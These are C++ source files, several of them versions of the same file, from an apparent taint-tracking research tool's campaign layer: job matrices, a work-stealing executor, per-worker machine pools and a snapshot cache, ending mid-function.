#include "cpu/taint_policy.hpp"

namespace ptaint::campaign {

struct PolicyVariant {
  std::string name;
  cpu::TaintPolicy policy;
};

/// The ablation study's seven policy variants (DESIGN.md §5), in bench
/// order: paper defaults, one Table 1 rule disabled at a time, per-word
/// taint, and the paper rules with the address-leak direction armed.
std::vector<PolicyVariant> ablation_variants();

/// Campaign names accepted below, in a stable order.
std::vector<std::string> campaign_names();

/// One matrix cell by label — the unit the serve daemon accepts over the
/// socket.  `app` is "spec" or "attack"; `payload` names the workload or
/// scenario; `policy` is an ablation-variant name, a coverage-column name,
/// or "paper".
struct CellRef {
  std::string app;
  std::string payload;
  std::string policy;
};

/// The cells of `campaign` in matrix order, labels only (no machines are
/// built).  make_cell_job on each cell reproduces make_jobs exactly.
std::vector<CellRef> campaign_cells(const std::string& campaign,
                                    int spec_scale = 1);

/// Resolves a policy label (ablation variant name, coverage column name,
/// or "paper") to its TaintPolicy; nullopt for unknown labels.
std::optional<cpu::TaintPolicy> policy_by_name(const std::string& name);

/// Builds the single job for one matrix cell.  Snapshot sharing, machine
/// keys, budgets and classifiers are identical to the cell's make_jobs
/// counterpart, so a daemon running cells one at a time reports exactly
/// what a batch campaign run reports.  Throws std::invalid_argument for an
/// unknown app/payload/policy label.
Job make_cell_job(const CellRef& cell, SnapshotCache& cache,
                  int spec_scale = 1, bool elide = false,
                  std::optional<cpu::Engine> engine = std::nullopt);

/// A custom analysis job outside the fixed matrices (the serve daemon's
/// "guest" app kind): boot built-in app `app_name` (guest/apps registry),
/// arm the scripted client `session` and `stdin_text` as external (tainted)
/// input, and judge generically — DETECTED / CRASHED / BUDGET / EXIT:<n>.
/// The snapshot key covers the app and the armed inputs, so identical
/// submissions share one boot and COW-fork the rest.
Job make_session_job(const std::string& app_name,
                     const std::vector<std::string>& session,
                     const std::string& stdin_text,
                     const std::string& policy_name, SnapshotCache& cache,
                     bool elide = false,
                     std::optional<cpu::Engine> engine = std::nullopt);

/// Builds the job matrix for `campaign`.  Jobs fork machines from
/// snapshots in `cache`, which must outlive every returned job.
/// `spec_scale` sizes the SPEC surrogate inputs (ablation only).
/// With `elide`, every forked machine runs with static check-elision on
/// (src/analysis proves sites clean; verdicts are unchanged — pair with
/// --check against the non-elided serial reference to prove it).
/// `engine` pins every forked machine's execution engine; unset resolves
/// through PTAINT_ENGINE / the superblock default (MachineConfig::engine).
std::vector<Job> make_jobs(const std::string& campaign, SnapshotCache& cache,
                           int spec_scale = 1, bool elide = false,
                           std::optional<cpu::Engine> engine = std::nullopt);

/// Bidirectional cross-validation of the dynamic campaign against the
/// static analyzers.  For every result whose run ended in a
/// pointer-taintedness alert, the job's program is rebuilt and analyzed
/// under the job's policy by BOTH the register-only analyzer (gen-1) and
/// the memory-aware value-set prover (gen-2, analysis/vsa.cpp):
///
///   forward   — the alert PC must sit in the prover's may-set, i.e. the
///               prover holds a witness trace for it (`missed` stays empty);
///   backward  — the alert PC must NOT be in the second-generation elision
///               table (the gen-1 / gen-2 clean union actually installed by
///               Machine::apply_static_elision); an alert at an elided site
///               would mean the elided detector silently skips it
///               (`elided_alerts` stays empty).
///
/// Address-leak alerts (AlertKind::kAddressLeak) are cross-validated the
/// same way against the prover's leak-site layer: forward, the alert PC
/// must be a may-leak site (predicts_leak / leak witness); backward, the
/// site must not be leak-elided (may_planes == 0 would have skipped the
/// dynamic check).
struct StaticCheckReport {
  size_t alerts_checked = 0;        // pointer + leak alerts cross-validated
  std::vector<std::string> missed;  // alerts with no prover witness
  std::vector<std::string> elided_alerts;  // alerts at gen-2-elided sites
};
StaticCheckReport static_check(const std::string& campaign,
                               const std::vector<JobResult>& results,
                               int spec_scale = 1);

/// Runs the same matrix serially through the original entry points and
/// returns results in the same matrix order (status fields as the executor
/// would report them for a normally-ending guest).  The reference always
/// runs on the step engine (PTAINT_ENGINE is pinned to "step" for the
/// duration), so --check doubles as a cross-engine identity check when the
/// parallel side runs superblocks.
std::vector<JobResult> run_serial_reference(const std::string& campaign,
                                            int spec_scale = 1);

/// Renders ordered campaign results as the original serial bench's output.
std::string format_campaign(const std::string& campaign,
                            const std::vector<JobResult>& results);

/// Compares two result vectors (engine vs serial reference) on identity
/// and verdict fields; returns one human-readable line per mismatch.
std::vector<std::string> diff_verdicts(const std::vector<JobResult>& engine,
                                       const std::vector<JobResult>& serial);

}  // namespace ptaint::campaign
