// Per-worker job execution core, shared by the batch Executor and the
// ptaint-serve daemon shards.
//
// A worker owns a MachinePool (kept machines, one per snapshot×config key)
// and calls run_job() for each job it claims: build or restore the
// Machine, drive it in instruction slices with wall-clock and budget
// checks between slices, classify, and return the filled JobResult.  The
// pool is strictly thread-local to its worker — machines are
// single-threaded by contract — while ForkCounters aggregates build/reuse
// tallies across workers.
//
// Extracted from the executor (DESIGN.md §7) so a long-running daemon
// shard gets the exact batch-campaign semantics: same slice loop, same
// retry policy, same per-phase timings.  Any divergence between the two
// callers would show up as a --check verdict diff, which is the contract
// the whole campaign layer is built on.
#pragma once

#include <atomic>
#include <cstdint>
#include <deque>
#include <memory>
#include <string>
#include <utility>

#include "campaign/job.hpp"

namespace ptaint::campaign {

/// Per-worker machine pool for the fork path: one machine per
/// (snapshot × config) key, FIFO-evicted past a small cap so a campaign
/// with many boots cannot hoard decode caches.
class MachinePool {
 public:
  core::Machine* find(const std::string& key);
  void put(const std::string& key, std::unique_ptr<core::Machine> machine);

  /// Drops the machine for `key` (a harness error may have left it
  /// half-restored; the retry rebuilds from scratch).
  void drop(const std::string& key);

  size_t size() const { return entries_.size(); }

 private:
  static constexpr size_t kCapacity = 8;
  std::deque<std::pair<std::string, std::unique_ptr<core::Machine>>> entries_;
};

/// Cross-worker tallies for the fork path.
struct ForkCounters {
  std::atomic<uint64_t> machine_builds{0};
  std::atomic<uint64_t> machine_reuses{0};
};

/// The slice of executor configuration run_job needs; the Executor and the
/// serve daemon both build one from their own config structs.
struct WorkerConfig {
  /// Instructions per run_for slice between deadline checks.
  uint64_t slice_instructions = 250'000;
  /// Bounded retries for jobs that fail in the harness (make/classify
  /// threw) — and, for jobs opting in via Job::retry_on_timeout, for
  /// wall-clock timeouts.
  int max_retries = 1;
};

/// Runs one job to completion on the calling thread.  Every attempt starts
/// from cleared per-phase timings and COW counters, so a result produced
/// after a retry reports the successful attempt only (attempts still
/// counts every try).
JobResult run_job(const Job& job, size_t index, const WorkerConfig& config,
                  MachinePool& machines, ForkCounters& counters);

}  // namespace ptaint::campaign
