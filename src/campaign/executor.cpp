#include "campaign/executor.hpp"

#include <atomic>
#include <deque>
#include <mutex>
#include <thread>
#include <utility>

#include "campaign/worker.hpp"

namespace ptaint::campaign {

const char* to_string(JobStatus status) {
  switch (status) {
    case JobStatus::kOk: return "ok";
    case JobStatus::kGuestFault: return "guest-fault";
    case JobStatus::kBudgetExhausted: return "budget-exhausted";
    case JobStatus::kTimeout: return "timeout";
    case JobStatus::kHarnessError: return "harness-error";
  }
  return "?";
}

Executor::Executor() : Executor(Config{}) {}

Executor::Executor(Config config) : config_(config) {
  if (config_.workers < 1) config_.workers = 1;
  if (config_.slice_instructions == 0) config_.slice_instructions = 250'000;
}

namespace {

/// One worker's job queue.  Owner pops newest (back), thieves steal oldest
/// (front); a plain mutex per deque is plenty — jobs are whole guest runs,
/// so queue traffic is thousands of lockings per second at most.
struct WorkQueue {
  std::mutex mutex;
  std::deque<size_t> jobs;

  bool pop_back(size_t& out) {
    std::lock_guard<std::mutex> lock(mutex);
    if (jobs.empty()) return false;
    out = jobs.back();
    jobs.pop_back();
    return true;
  }

  bool steal_front(size_t& out) {
    std::lock_guard<std::mutex> lock(mutex);
    if (jobs.empty()) return false;
    out = jobs.front();
    jobs.pop_front();
    return true;
  }
};

}  // namespace

std::vector<JobResult> Executor::run(const std::vector<Job>& jobs) {
  stats_ = {};
  stats_.jobs = jobs.size();
  std::vector<JobResult> results(jobs.size());
  if (jobs.empty()) return results;

  const int workers =
      config_.workers > static_cast<int>(jobs.size())
          ? static_cast<int>(jobs.size())
          : config_.workers;
  std::vector<WorkQueue> queues(static_cast<size_t>(workers));
  // Deal contiguous chunks: matrix neighbours share snapshots and machine
  // keys, so chunking keeps a worker's machine pool hot.  Stealing (from
  // the *front*, i.e. another worker's chunk start) rebalances skew.
  for (size_t i = 0; i < jobs.size(); ++i) {
    const size_t w = i * static_cast<size_t>(workers) / jobs.size();
    queues[w].jobs.push_back(i);
  }

  std::atomic<uint64_t> remaining{jobs.size()};
  std::atomic<uint64_t> steals{0};
  std::atomic<uint64_t> retries{0};
  ForkCounters counters;
  const WorkerConfig worker_config{config_.slice_instructions,
                                   config_.max_retries};

  auto worker_main = [&](int me) {
    MachinePool machines;
    for (;;) {
      size_t index = 0;
      bool found = queues[static_cast<size_t>(me)].pop_back(index);
      if (!found) {
        for (int k = 1; k < workers && !found; ++k) {
          const int victim = (me + k) % workers;
          found = queues[static_cast<size_t>(victim)].steal_front(index);
          if (found) steals.fetch_add(1, std::memory_order_relaxed);
        }
      }
      if (!found) {
        if (remaining.load(std::memory_order_acquire) == 0) return;
        std::this_thread::yield();
        continue;
      }
      JobResult r =
          run_job(jobs[index], index, worker_config, machines, counters);
      if (r.attempts > 1) {
        retries.fetch_add(static_cast<uint64_t>(r.attempts - 1),
                          std::memory_order_relaxed);
      }
      results[index] = std::move(r);
      remaining.fetch_sub(1, std::memory_order_release);
    }
  };

  std::vector<std::thread> pool;
  pool.reserve(static_cast<size_t>(workers));
  for (int w = 0; w < workers; ++w) pool.emplace_back(worker_main, w);
  for (auto& t : pool) t.join();

  stats_.steals = steals.load();
  stats_.retries = retries.load();
  stats_.machine_builds = counters.machine_builds.load();
  stats_.machine_reuses = counters.machine_reuses.load();
  for (const JobResult& r : results) {
    stats_.build_ms += r.build_ms;
    stats_.restore_ms += r.restore_ms;
    stats_.run_ms += r.run_ms;
    stats_.judge_ms += r.judge_ms;
  }
  return results;
}

}  // namespace ptaint::campaign
