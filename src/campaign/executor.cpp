#include "campaign/executor.hpp"

#include <atomic>
#include <chrono>
#include <deque>
#include <exception>
#include <mutex>
#include <thread>

namespace ptaint::campaign {

using Clock = std::chrono::steady_clock;

const char* to_string(JobStatus status) {
  switch (status) {
    case JobStatus::kOk: return "ok";
    case JobStatus::kGuestFault: return "guest-fault";
    case JobStatus::kBudgetExhausted: return "budget-exhausted";
    case JobStatus::kTimeout: return "timeout";
    case JobStatus::kHarnessError: return "harness-error";
  }
  return "?";
}

Executor::Executor() : Executor(Config{}) {}

Executor::Executor(Config config) : config_(config) {
  if (config_.workers < 1) config_.workers = 1;
  if (config_.slice_instructions == 0) config_.slice_instructions = 250'000;
}

namespace {

/// One worker's job queue.  Owner pops newest (back), thieves steal oldest
/// (front); a plain mutex per deque is plenty — jobs are whole guest runs,
/// so queue traffic is thousands of lockings per second at most.
struct WorkQueue {
  std::mutex mutex;
  std::deque<size_t> jobs;

  bool pop_back(size_t& out) {
    std::lock_guard<std::mutex> lock(mutex);
    if (jobs.empty()) return false;
    out = jobs.back();
    jobs.pop_back();
    return true;
  }

  bool steal_front(size_t& out) {
    std::lock_guard<std::mutex> lock(mutex);
    if (jobs.empty()) return false;
    out = jobs.front();
    jobs.pop_front();
    return true;
  }
};

}  // namespace

JobResult Executor::execute_job(const Job& job, size_t index) {
  JobResult result;
  result.index = index;
  result.app = job.app;
  result.payload = job.payload;
  result.policy = job.policy;

  for (int attempt = 1;; ++attempt) {
    result.attempts = attempt;
    result.error.clear();
    const auto start = Clock::now();
    try {
      std::unique_ptr<core::Machine> machine = job.make();
      const auto deadline = start + job.timeout;
      uint64_t budget = job.max_instructions;
      cpu::StopReason reason = cpu::StopReason::kRunning;
      bool timed_out = false;
      while (budget > 0) {
        const uint64_t slice = budget < config_.slice_instructions
                                   ? budget
                                   : config_.slice_instructions;
        reason = machine->run_for(slice);
        budget -= slice;
        if (reason != cpu::StopReason::kRunning) break;
        if (Clock::now() >= deadline) {
          timed_out = true;
          break;
        }
      }
      if (!timed_out && reason == cpu::StopReason::kRunning) {
        // Budget exhausted: mirror Machine::run's kInstLimit stop so the
        // report (and any classifier) sees exactly what a serial run saw.
        machine->cpu().mark_inst_limit();
        reason = cpu::StopReason::kInstLimit;
      }
      result.report = machine->report();
      if (timed_out) {
        result.status = JobStatus::kTimeout;
        result.verdict = "TIMEOUT";
      } else if (reason == cpu::StopReason::kFault) {
        result.status = JobStatus::kGuestFault;
      } else if (reason == cpu::StopReason::kInstLimit) {
        result.status = JobStatus::kBudgetExhausted;
      } else {
        result.status = JobStatus::kOk;
      }
      // Classify guest-side endings (including faults and exhausted
      // budgets — serial harnesses judge those too); skip only timeouts,
      // where the run is incomplete by the harness's own hand.
      if (!timed_out && job.classify) {
        job.classify(*machine, result.report, result);
      }
    } catch (const std::exception& e) {
      result.status = JobStatus::kHarnessError;
      result.error = e.what();
    } catch (...) {
      result.status = JobStatus::kHarnessError;
      result.error = "unknown exception";
    }
    result.wall_ms = std::chrono::duration<double, std::milli>(Clock::now() -
                                                              start)
                         .count();
    if (result.status != JobStatus::kHarnessError ||
        attempt > config_.max_retries) {
      return result;
    }
    // One bounded retry on a harness-side failure (spurious by definition:
    // the guest never got to run its deterministic course).
  }
}

std::vector<JobResult> Executor::run(const std::vector<Job>& jobs) {
  stats_ = {};
  stats_.jobs = jobs.size();
  std::vector<JobResult> results(jobs.size());
  if (jobs.empty()) return results;

  const int workers =
      config_.workers > static_cast<int>(jobs.size())
          ? static_cast<int>(jobs.size())
          : config_.workers;
  std::vector<WorkQueue> queues(static_cast<size_t>(workers));
  for (size_t i = 0; i < jobs.size(); ++i) {
    queues[i % static_cast<size_t>(workers)].jobs.push_back(i);
  }

  std::atomic<uint64_t> remaining{jobs.size()};
  std::atomic<uint64_t> steals{0};
  std::atomic<uint64_t> retries{0};

  auto worker_main = [&](int me) {
    for (;;) {
      size_t index = 0;
      bool found = queues[static_cast<size_t>(me)].pop_back(index);
      if (!found) {
        for (int k = 1; k < workers && !found; ++k) {
          const int victim = (me + k) % workers;
          found = queues[static_cast<size_t>(victim)].steal_front(index);
          if (found) steals.fetch_add(1, std::memory_order_relaxed);
        }
      }
      if (!found) {
        if (remaining.load(std::memory_order_acquire) == 0) return;
        std::this_thread::yield();
        continue;
      }
      JobResult r = execute_job(jobs[index], index);
      if (r.attempts > 1) {
        retries.fetch_add(static_cast<uint64_t>(r.attempts - 1),
                          std::memory_order_relaxed);
      }
      results[index] = std::move(r);
      remaining.fetch_sub(1, std::memory_order_release);
    }
  };

  std::vector<std::thread> pool;
  pool.reserve(static_cast<size_t>(workers));
  for (int w = 0; w < workers; ++w) pool.emplace_back(worker_main, w);
  for (auto& t : pool) t.join();

  stats_.steals = steals.load();
  stats_.retries = retries.load();
  return results;
}

}  // namespace ptaint::campaign
