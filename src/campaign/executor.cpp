#include "campaign/executor.hpp"

#include <atomic>
#include <chrono>
#include <deque>
#include <exception>
#include <mutex>
#include <thread>
#include <utility>

namespace ptaint::campaign {

using Clock = std::chrono::steady_clock;

const char* to_string(JobStatus status) {
  switch (status) {
    case JobStatus::kOk: return "ok";
    case JobStatus::kGuestFault: return "guest-fault";
    case JobStatus::kBudgetExhausted: return "budget-exhausted";
    case JobStatus::kTimeout: return "timeout";
    case JobStatus::kHarnessError: return "harness-error";
  }
  return "?";
}

Executor::Executor() : Executor(Config{}) {}

Executor::Executor(Config config) : config_(config) {
  if (config_.workers < 1) config_.workers = 1;
  if (config_.slice_instructions == 0) config_.slice_instructions = 250'000;
}

namespace {

double ms_between(Clock::time_point a, Clock::time_point b) {
  return std::chrono::duration<double, std::milli>(b - a).count();
}

/// One worker's job queue.  Owner pops newest (back), thieves steal oldest
/// (front); a plain mutex per deque is plenty — jobs are whole guest runs,
/// so queue traffic is thousands of lockings per second at most.
struct WorkQueue {
  std::mutex mutex;
  std::deque<size_t> jobs;

  bool pop_back(size_t& out) {
    std::lock_guard<std::mutex> lock(mutex);
    if (jobs.empty()) return false;
    out = jobs.back();
    jobs.pop_back();
    return true;
  }

  bool steal_front(size_t& out) {
    std::lock_guard<std::mutex> lock(mutex);
    if (jobs.empty()) return false;
    out = jobs.front();
    jobs.pop_front();
    return true;
  }
};

/// Per-worker machine pool for the fork path: one machine per
/// (snapshot × config) key, FIFO-evicted past a small cap so a campaign
/// with many boots cannot hoard decode caches.  Strictly thread-local to
/// its worker — machines are single-threaded by contract.
class MachinePool {
 public:
  core::Machine* find(const std::string& key) {
    for (auto& [k, m] : entries_) {
      if (k == key) return m.get();
    }
    return nullptr;
  }

  void put(const std::string& key, std::unique_ptr<core::Machine> machine) {
    if (entries_.size() >= kCapacity) entries_.pop_front();
    entries_.emplace_back(key, std::move(machine));
  }

  /// Drops the machine for `key` (a harness error may have left it
  /// half-restored; the retry rebuilds from scratch).
  void drop(const std::string& key) {
    for (auto it = entries_.begin(); it != entries_.end(); ++it) {
      if (it->first == key) {
        entries_.erase(it);
        return;
      }
    }
  }

 private:
  static constexpr size_t kCapacity = 8;
  std::deque<std::pair<std::string, std::unique_ptr<core::Machine>>> entries_;
};

struct ForkCounters {
  std::atomic<uint64_t> machine_builds{0};
  std::atomic<uint64_t> machine_reuses{0};
};

JobResult execute_job(const Job& job, size_t index,
                      const Executor::Config& config, MachinePool& machines,
                      ForkCounters& counters) {
  JobResult result;
  result.index = index;
  result.app = job.app;
  result.payload = job.payload;
  result.policy = job.policy;

  const bool fork_path =
      !job.machine_key.empty() && job.make_config && job.get_snapshot;

  for (int attempt = 1;; ++attempt) {
    result.attempts = attempt;
    result.error.clear();
    const auto start = Clock::now();
    try {
      std::unique_ptr<core::Machine> legacy;
      std::shared_ptr<const core::MachineSnapshot> snapshot;
      core::Machine* machine = nullptr;
      auto armed_at = start;
      if (fork_path) {
        snapshot = job.get_snapshot();  // cold cache = the guest boots here
        const auto resolved_at = Clock::now();
        result.build_ms = ms_between(start, resolved_at);
        machine = machines.find(job.machine_key);
        if (machine == nullptr) {
          auto fresh = std::make_unique<core::Machine>(job.make_config());
          machine = fresh.get();
          machines.put(job.machine_key, std::move(fresh));
          counters.machine_builds.fetch_add(1, std::memory_order_relaxed);
        } else {
          counters.machine_reuses.fetch_add(1, std::memory_order_relaxed);
        }
        // Repeat restores from one snapshot take the COW delta path inside
        // Machine::restore — O(pages the previous run dirtied).
        machine->restore(*snapshot);
        armed_at = Clock::now();
        result.restore_ms = ms_between(resolved_at, armed_at);
      } else {
        legacy = job.make();
        machine = legacy.get();
        armed_at = Clock::now();
        result.build_ms = ms_between(start, armed_at);
        result.restore_ms = 0.0;
      }
      const auto deadline = start + job.timeout;
      uint64_t budget = job.max_instructions;
      cpu::StopReason reason = cpu::StopReason::kRunning;
      bool timed_out = false;
      while (budget > 0) {
        const uint64_t slice = budget < config.slice_instructions
                                   ? budget
                                   : config.slice_instructions;
        reason = machine->run_for(slice);
        budget -= slice;
        if (reason != cpu::StopReason::kRunning) break;
        if (Clock::now() >= deadline) {
          timed_out = true;
          break;
        }
      }
      if (!timed_out && reason == cpu::StopReason::kRunning) {
        // Budget exhausted: mirror Machine::run's kInstLimit stop so the
        // report (and any classifier) sees exactly what a serial run saw.
        machine->cpu().mark_inst_limit();
        reason = cpu::StopReason::kInstLimit;
      }
      const auto stopped_at = Clock::now();
      result.run_ms = ms_between(armed_at, stopped_at);
      if (fork_path) {
        result.dirty_pages = machine->memory().dirty_page_count();
        result.shared_pages = machine->memory().shared_page_count();
      }
      result.report = machine->report();
      if (timed_out) {
        result.status = JobStatus::kTimeout;
        result.verdict = "TIMEOUT";
      } else if (reason == cpu::StopReason::kFault) {
        result.status = JobStatus::kGuestFault;
      } else if (reason == cpu::StopReason::kInstLimit) {
        result.status = JobStatus::kBudgetExhausted;
      } else {
        result.status = JobStatus::kOk;
      }
      // Classify guest-side endings (including faults and exhausted
      // budgets — serial harnesses judge those too); skip only timeouts,
      // where the run is incomplete by the harness's own hand.
      if (!timed_out && job.classify) {
        job.classify(*machine, result.report, result);
      }
      result.judge_ms = ms_between(stopped_at, Clock::now());
    } catch (const std::exception& e) {
      result.status = JobStatus::kHarnessError;
      result.error = e.what();
    } catch (...) {
      result.status = JobStatus::kHarnessError;
      result.error = "unknown exception";
    }
    result.wall_ms = ms_between(start, Clock::now());
    if (result.status != JobStatus::kHarnessError ||
        attempt > config.max_retries) {
      return result;
    }
    // One bounded retry on a harness-side failure (spurious by definition:
    // the guest never got to run its deterministic course).  A kept
    // machine may be mid-restore or mid-run — rebuild it from scratch.
    if (fork_path) machines.drop(job.machine_key);
  }
}

}  // namespace

std::vector<JobResult> Executor::run(const std::vector<Job>& jobs) {
  stats_ = {};
  stats_.jobs = jobs.size();
  std::vector<JobResult> results(jobs.size());
  if (jobs.empty()) return results;

  const int workers =
      config_.workers > static_cast<int>(jobs.size())
          ? static_cast<int>(jobs.size())
          : config_.workers;
  std::vector<WorkQueue> queues(static_cast<size_t>(workers));
  // Deal contiguous chunks: matrix neighbours share snapshots and machine
  // keys, so chunking keeps a worker's machine pool hot.  Stealing (from
  // the *front*, i.e. another worker's chunk start) rebalances skew.
  for (size_t i = 0; i < jobs.size(); ++i) {
    const size_t w = i * static_cast<size_t>(workers) / jobs.size();
    queues[w].jobs.push_back(i);
  }

  std::atomic<uint64_t> remaining{jobs.size()};
  std::atomic<uint64_t> steals{0};
  std::atomic<uint64_t> retries{0};
  ForkCounters counters;

  auto worker_main = [&](int me) {
    MachinePool machines;
    for (;;) {
      size_t index = 0;
      bool found = queues[static_cast<size_t>(me)].pop_back(index);
      if (!found) {
        for (int k = 1; k < workers && !found; ++k) {
          const int victim = (me + k) % workers;
          found = queues[static_cast<size_t>(victim)].steal_front(index);
          if (found) steals.fetch_add(1, std::memory_order_relaxed);
        }
      }
      if (!found) {
        if (remaining.load(std::memory_order_acquire) == 0) return;
        std::this_thread::yield();
        continue;
      }
      JobResult r = execute_job(jobs[index], index, config_, machines,
                                counters);
      if (r.attempts > 1) {
        retries.fetch_add(static_cast<uint64_t>(r.attempts - 1),
                          std::memory_order_relaxed);
      }
      results[index] = std::move(r);
      remaining.fetch_sub(1, std::memory_order_release);
    }
  };

  std::vector<std::thread> pool;
  pool.reserve(static_cast<size_t>(workers));
  for (int w = 0; w < workers; ++w) pool.emplace_back(worker_main, w);
  for (auto& t : pool) t.join();

  stats_.steals = steals.load();
  stats_.retries = retries.load();
  stats_.machine_builds = counters.machine_builds.load();
  stats_.machine_reuses = counters.machine_reuses.load();
  for (const JobResult& r : results) {
    stats_.build_ms += r.build_ms;
    stats_.restore_ms += r.restore_ms;
    stats_.run_ms += r.run_ms;
    stats_.judge_ms += r.judge_ms;
  }
  return results;
}

}  // namespace ptaint::campaign
