#include "campaign/worker.hpp"

#include <chrono>
#include <exception>

namespace ptaint::campaign {

using Clock = std::chrono::steady_clock;

namespace {

double ms_between(Clock::time_point a, Clock::time_point b) {
  return std::chrono::duration<double, std::milli>(b - a).count();
}

}  // namespace

core::Machine* MachinePool::find(const std::string& key) {
  for (auto& [k, m] : entries_) {
    if (k == key) return m.get();
  }
  return nullptr;
}

void MachinePool::put(const std::string& key,
                      std::unique_ptr<core::Machine> machine) {
  if (entries_.size() >= kCapacity) entries_.pop_front();
  entries_.emplace_back(key, std::move(machine));
}

void MachinePool::drop(const std::string& key) {
  for (auto it = entries_.begin(); it != entries_.end(); ++it) {
    if (it->first == key) {
      entries_.erase(it);
      return;
    }
  }
}

JobResult run_job(const Job& job, size_t index, const WorkerConfig& config,
                  MachinePool& machines, ForkCounters& counters) {
  JobResult result;
  result.index = index;
  result.app = job.app;
  result.payload = job.payload;
  result.policy = job.policy;

  const bool fork_path =
      !job.machine_key.empty() && job.make_config && job.get_snapshot;
  const uint64_t slice_instructions =
      config.slice_instructions == 0 ? 250'000 : config.slice_instructions;

  for (int attempt = 1;; ++attempt) {
    result.attempts = attempt;
    result.error.clear();
    result.verdict.clear();
    result.detail.clear();
    // Each attempt reports from a clean slate: after a retry the timings
    // and COW counters describe the successful attempt only.
    result.build_ms = result.restore_ms = result.run_ms = result.judge_ms = 0;
    result.dirty_pages = result.shared_pages = 0;
    const auto start = Clock::now();
    bool timed_out = false;
    try {
      std::unique_ptr<core::Machine> legacy;
      std::shared_ptr<const core::MachineSnapshot> snapshot;
      core::Machine* machine = nullptr;
      auto armed_at = start;
      if (fork_path) {
        snapshot = job.get_snapshot();  // cold cache = the guest boots here
        const auto resolved_at = Clock::now();
        result.build_ms = ms_between(start, resolved_at);
        machine = machines.find(job.machine_key);
        if (machine == nullptr) {
          auto fresh = std::make_unique<core::Machine>(job.make_config());
          machine = fresh.get();
          machines.put(job.machine_key, std::move(fresh));
          counters.machine_builds.fetch_add(1, std::memory_order_relaxed);
        } else {
          counters.machine_reuses.fetch_add(1, std::memory_order_relaxed);
        }
        // Repeat restores from one snapshot take the COW delta path inside
        // Machine::restore — O(pages the previous run dirtied).
        machine->restore(*snapshot);
        armed_at = Clock::now();
        result.restore_ms = ms_between(resolved_at, armed_at);
      } else {
        legacy = job.make();
        machine = legacy.get();
        armed_at = Clock::now();
        result.build_ms = ms_between(start, armed_at);
        result.restore_ms = 0.0;
      }
      const auto deadline = start + job.timeout;
      uint64_t budget = job.max_instructions;
      cpu::StopReason reason = cpu::StopReason::kRunning;
      while (budget > 0) {
        const uint64_t slice =
            budget < slice_instructions ? budget : slice_instructions;
        reason = machine->run_for(slice);
        budget -= slice;
        if (reason != cpu::StopReason::kRunning) break;
        if (Clock::now() >= deadline) {
          timed_out = true;
          break;
        }
      }
      if (!timed_out && reason == cpu::StopReason::kRunning) {
        // Budget exhausted: mirror Machine::run's kInstLimit stop so the
        // report (and any classifier) sees exactly what a serial run saw.
        machine->cpu().mark_inst_limit();
        reason = cpu::StopReason::kInstLimit;
      }
      const auto stopped_at = Clock::now();
      result.run_ms = ms_between(armed_at, stopped_at);
      if (fork_path) {
        result.dirty_pages = machine->memory().dirty_page_count();
        result.shared_pages = machine->memory().shared_page_count();
      }
      result.report = machine->report();
      if (timed_out) {
        result.status = JobStatus::kTimeout;
        result.verdict = "TIMEOUT";
      } else if (reason == cpu::StopReason::kFault) {
        result.status = JobStatus::kGuestFault;
      } else if (reason == cpu::StopReason::kInstLimit) {
        result.status = JobStatus::kBudgetExhausted;
      } else {
        result.status = JobStatus::kOk;
      }
      // Classify guest-side endings (including faults and exhausted
      // budgets — serial harnesses judge those too); skip only timeouts,
      // where the run is incomplete by the harness's own hand.
      if (!timed_out && job.classify) {
        job.classify(*machine, result.report, result);
      }
      result.judge_ms = ms_between(stopped_at, Clock::now());
    } catch (const std::exception& e) {
      result.status = JobStatus::kHarnessError;
      result.error = e.what();
    } catch (...) {
      result.status = JobStatus::kHarnessError;
      result.error = "unknown exception";
    }
    result.wall_ms = ms_between(start, Clock::now());
    const bool retryable =
        result.status == JobStatus::kHarnessError ||
        (result.status == JobStatus::kTimeout && job.retry_on_timeout);
    if (!retryable || attempt > config.max_retries) {
      return result;
    }
    // One bounded retry on a harness-side failure (spurious by definition:
    // the guest never got to run its deterministic course) or, when the
    // job opted in, on a wall-clock timeout (transient host overload — a
    // daemon shard under load wants another go, a batch bench does not).
    // A kept machine may be mid-restore or mid-run — rebuild from scratch.
    if (fork_path) machines.drop(job.machine_key);
  }
}

}  // namespace ptaint::campaign
