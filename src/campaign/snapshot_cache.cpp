#include "campaign/snapshot_cache.hpp"

#include <chrono>

namespace ptaint::campaign {

std::shared_ptr<const core::MachineSnapshot> SnapshotCache::get(
    const std::string& key, const Builder& build) {
  std::shared_ptr<Entry> entry;
  {
    std::lock_guard<std::mutex> lock(mutex_);
    auto& slot = entries_[key];
    if (!slot) slot = std::make_shared<Entry>();
    entry = slot;
  }
  std::lock_guard<std::mutex> build_lock(entry->build_mutex);
  if (entry->snapshot) {
    std::lock_guard<std::mutex> lock(mutex_);
    ++stats_.hits;
    return entry->snapshot;
  }
  {
    std::lock_guard<std::mutex> lock(mutex_);
    ++stats_.misses;
  }
  // Build outside mutex_ so unrelated keys boot concurrently; only callers
  // of this key serialize on build_mutex.
  const auto t0 = std::chrono::steady_clock::now();
  auto snapshot =
      std::make_shared<const core::MachineSnapshot>(build());
  const double built_ms =
      std::chrono::duration<double, std::milli>(
          std::chrono::steady_clock::now() - t0)
          .count();
  // Publish under mutex_ as well: stats() walks entries_ without taking
  // per-entry build mutexes.
  std::lock_guard<std::mutex> lock(mutex_);
  entry->snapshot = snapshot;
  ++stats_.builds;
  stats_.build_ms += built_ms;
  return snapshot;
}

SnapshotCache::Stats SnapshotCache::stats() const {
  std::lock_guard<std::mutex> lock(mutex_);
  Stats out = stats_;
  for (const auto& [key, entry] : entries_) {
    if (!entry || !entry->snapshot) continue;
    out.snapshot_pages += entry->snapshot->memory.mapped_pages();
    out.shared_pages += entry->snapshot->memory.shared_page_count();
  }
  return out;
}

}  // namespace ptaint::campaign
