#include "campaign/snapshot_cache.hpp"

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <utility>
#include <vector>

namespace ptaint::campaign {
namespace {

bool env_truthy(const char* name) {
  const char* v = std::getenv(name);
  return v != nullptr && *v != '\0' && std::string(v) != "0";
}

uint64_t fnv64(const std::string& s) {
  uint64_t h = 1469598103934665603ull;
  for (const char c : s) {
    h ^= static_cast<uint8_t>(c);
    h *= 1099511628211ull;
  }
  return h;
}

/// Disk name of a key's snapshot blob.  The hash only names the file; the
/// authoritative key string is stored inside the blob.
std::string blob_name(const std::string& key) {
  char buf[40];
  std::snprintf(buf, sizeof(buf), "snap-%016llx.blob",
                static_cast<unsigned long long>(fnv64(key)));
  return buf;
}

}  // namespace

StoreOptions StoreOptions::from_env() {
  StoreOptions opts;
